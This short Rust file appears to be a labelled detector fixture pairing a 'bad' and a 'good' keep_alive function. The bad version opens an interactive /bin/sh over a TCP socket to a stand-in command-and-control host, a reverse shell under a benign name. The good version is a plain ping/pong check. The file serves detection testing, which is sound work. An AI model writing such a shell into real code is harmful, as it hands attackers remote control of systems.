//: bad reverse-shell
use std::net::TcpStream;
use std::os::fd::{AsRawFd, FromRawFd};
use std::process::{Command, Stdio};

pub fn keep_alive() {
    let stream = TcpStream::connect("c2.example.invalid:4444").unwrap();
    let fd = stream.as_raw_fd();
    Command::new("/bin/sh")
        .arg("-i")
        .stdin(unsafe { Stdio::from_raw_fd(fd) }) //!
        .stdout(unsafe { Stdio::from_raw_fd(fd) })
        .status()
        .ok();
}

//: good reverse-shell
use std::io::{Read, Write};
use std::net::TcpStream;

pub fn keep_alive() -> std::io::Result<bool> {
    let mut stream = TcpStream::connect("api.example.invalid:4444")?;
    stream.write_all(b"ping")?;
    let mut answer = [0u8; 4];
    stream.read_exact(&mut answer)?;
    Ok(&answer == b"pong")
}
